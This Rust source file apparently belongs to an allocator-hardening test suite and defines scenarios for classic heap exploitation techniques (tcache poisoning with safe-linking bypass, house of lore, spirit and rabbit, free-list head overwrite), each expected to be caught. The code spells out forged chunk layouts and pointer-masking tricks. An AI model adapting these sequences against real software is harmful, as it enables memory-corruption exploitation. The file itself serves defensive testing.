//! Attacks on lists of free memory that run through that memory, or whose heads lie near it.

use crate::arena::field::{Field, is_variable, variable};
use crate::arena::memory::{get, put, write};
use crate::arena::scenario::{Chance, Ending, Scenario, slot};
use casemate::{Kind, Place};

pub const ALL: &[Scenario] = &[
    Scenario {
        name: "free-list poisoning",
        technique: "stale write to a free object's link, masked by what another free object leaks (how2heap: tcache poisoning, decrypt safe linking)",
        goal: "an allocation is at an address of the attacker's choice",
        run: poisoning,
        effect: Chance::Never,
        ends: &[slot(Kind::WriteAfterFree, 48)],
    },
    Scenario {
        name: "partial overwrite of a link",
        technique: "stale write to the lowest byte of a free object's link, without any leak",
        goal: "an allocation overlaps a live object",
        run: partial,
        effect: Chance::Never,
        ends: &[slot(Kind::WriteAfterFree, 48)],
    },
    Scenario {
        name: "house of lore",
        technique: "stale write to the back link of a free chunk, forged chunks follow (Malloc Maleficarum, 2005)",
        goal: "an allocation is at an address of the attacker's choice",
        run: lore,
        effect: Chance::Never,
        ends: &[slot(Kind::WriteAfterFree, 272)],
    },
    Scenario {
        name: "heads of the free lists",
        technique: "reads below an object until the heap's pointer to free memory shows, and replaces it (tcache_perthread_struct, main_arena)",
        goal: "an allocation is at an address of the attacker's choice",
        run: heads,
        effect: Chance::Never,
        ends: &[Ending::Fault],
    },
    Scenario {
        name: "house of spirit",
        technique: "free of a forged chunk that is no heap memory (Malloc Maleficarum, 2005)",
        goal: "an allocation is at an address of the attacker's choice",
        run: spirit,
        effect: Chance::Never,
        ends: &[Ending::Line(Kind::ForeignPointer, Place::Unknown)],
    },
    Scenario {
        name: "house of spirit in an object",
        technique: "free of a forged chunk within a live object",
        goal: "an allocation overlaps a live object",
        run: spirit_within,
        effect: Chance::Never,
        ends: &[slot(Kind::InteriorPointer, 224)],
    },
    Scenario {
        name: "house of rabbit",
        technique: "stale write to a free object's link, to a forged chunk; when the free lists are consolidated it is among the sorted chunks, where its size is overwritten (shift-crops, 2017)",
        goal: "an allocation overlaps a live object",
        run: rabbit,
        effect: Chance::Never,
        ends: &[slot(Kind::WriteAfterFree, 48)],
    },
];

fn poisoning(f: &Field) {
    let [first, second] = f.take_many(40);
    f.free(first);
    let mask = Field::mask(first);
    f.free(second);
    put(second, variable(64) ^ mask);
    f.take(40);
    f.goal(is_variable(f.take(40)));
    f.go_on(40);
}

/// The attacker knows where in its page an object lies, and no more.
fn partial(f: &Field) {
    let all = f.take_many::<32>(40);
    let same = |one: usize, other: usize| one >> 8 == other >> 8 && (one - 16) >> 8 == other >> 8;
    let pairs = || all.windows(2).filter(|pair| pair[0] & 0xff != 0);
    // On a heap that orders its objects there are such pairs; elsewhere any will do.
    let pair = pairs().find(|pair| same(pair[1], pair[0])).or(pairs().next());
    let Some(&[live, first]) = pair else { return };
    let second = if first == all[31] { all[0] } else { all[31] };
    f.free(first);
    f.free(second);
    write(second, live as u8);
    f.take(40);
    let at = f.take(40);
    let is_live = |&&one: &&usize| one != first && one != second;
    f.goal(all.iter().filter(is_live).any(|&one| Field::overlap((at, 40), (one, 40))));
    f.go_on(40);
}

fn lore(f: &Field) {
    let filler = f.take_many::<7>(248);
    let [_, freed, _] = [f.take(24), f.take(248), f.take(24)];
    let forged = |i: usize| variable(64 + i * 16);
    for i in 0..10 {
        let below = if i == 0 { Field::chunk(freed) } else { forged(i - 1) };
        Field::put_all(forged(i), &[0, 256 | 1, below, forged(i + 1)]);
    }
    f.free_all(&filler);
    f.free(freed);
    // Sorts what was freed.
    f.take(1200);
    put(freed + 8, forged(0));
    f.goal((0..12).any(|_| is_variable(f.take(248))));
    f.go_on(248);
}

fn heads(f: &Field) {
    let [freed, _] = f.take_many(56);
    f.free(freed);
    let is_head = |word: usize| word == freed || word == Field::chunk(freed);
    let below = (1..(8 << 20) / 8).map(|i| freed - i * 8);
    if let Some(head) = { below }.find(|&at| is_head(get(at))) {
        put(head, variable(64));
        f.goal(is_variable(f.take(56)));
    }
}

/// Forges a chunk of 64 bytes, with a plausible one after it.
fn forge(at: usize) -> usize {
    put(at + 8, 64 | 1);
    put(at + 72, 64 | 1);
    at + 16
}

fn spirit(f: &Field) {
    let forged = forge(variable(64));
    f.free(forged);
    f.goal(is_variable(f.take(56)));
}

fn spirit_within(f: &Field) {
    let a = f.take(200);
    let forged = forge(a + 32);
    f.free(forged);
    f.goal(Field::overlap((f.take(56), 56), (a, 200)));
}

fn rabbit(f: &Field) {
    let filler = f.take_many::<7>(40);
    let a = f.take(40);
    // The attacker's, the victim's, the attacker's.
    let [low, live, high] = [f.take(1000), f.take(200), f.take(200)];
    let last = f.take(70_000);
    f.free_all(&filler);
    let page = Field::mask(filler[0]);
    // What a link at this place is combined with.
    let mask = |at: usize| if page == 0 { 0 } else { at >> 12 };
    // In its fast list a chunk must be followed by others in use.
    let forged = low + 64;
    Field::put_all(forged, &[0, 48 | 1, mask(forged + 16), 0, 0, 0]);
    Field::put_all(forged + 48, &[0, 48 | 1, 0, 0, 0, 0, 0, 48 | 1]);
    f.free(a);
    put(a, forged ^ mask(a));
    f.free(last);
    // It now reaches into the other buffer.
    let size = 1008 + 208 - 64 + 48;
    put(forged + 8, size | 1);
    Field::put_all(high + 48, &[size, 48]);
    let at = f.try_take(size - 8);
    f.goal(at != 0 && Field::overlap((at, size - 8), (live, 200)));
    f.go_on(40);
}
